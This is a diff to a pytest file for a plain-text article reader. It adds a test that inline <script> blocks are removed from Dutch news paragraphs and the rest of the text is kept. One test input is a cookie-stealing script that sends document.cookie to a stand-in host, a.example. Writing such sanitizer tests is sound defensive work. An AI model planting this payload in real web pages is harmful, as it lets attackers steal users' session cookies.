@@ -1,5 +1,7 @@
 """Plain text that is no ordinary article. The ordinary ones are in `test_shapes.py`."""
 
+import re
+
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -101,3 +103,21 @@ def test_one_link_left_below_the_text_is_no_text():
 def test_a_genre_and_a_name_above_the_headline():
     article = read_plain(f"Interview | An Maes, brugwachter\n‘Ik ben nooit alleen’\n{FIRST}", source="-")
     assert article.headline == "‘Ik ben nooit alleen’"
+
+
+@pytest.mark.parametrize(
+    "paragraph",
+    [
+        "<script>alert(1)</script>De brug gaat vrijdag weer open.",
+        "Hij zei: <SCRIPT>fetch('https://a.example/?c=' + document.cookie)</SCRIPT>het is gedaan. De brug bleef dicht.",
+        "De provincie <script>if (a < b) { track() }</script>belooft beterschap, en een nieuwe <b>slagboom</b>.",
+    ],
+)
+@pytest.mark.parametrize("place", [1, 2, 3])
+def test_around_a_script_that_was_copied_along_the_text_stays(paragraph, place):
+    blocks = ["Brug dicht", FIRST, FIRST]
+    blocks.insert(place, paragraph)
+    article = read_plain("\n\n".join(blocks), source="-")
+    before, _, after = re.split("(?is)(<script>.*</script>)", paragraph)
+    assert f"{before}{after}" in [block.text for block in article.blocks]
+    assert [left.reason for left in article.left_out] == ["script of a page"]
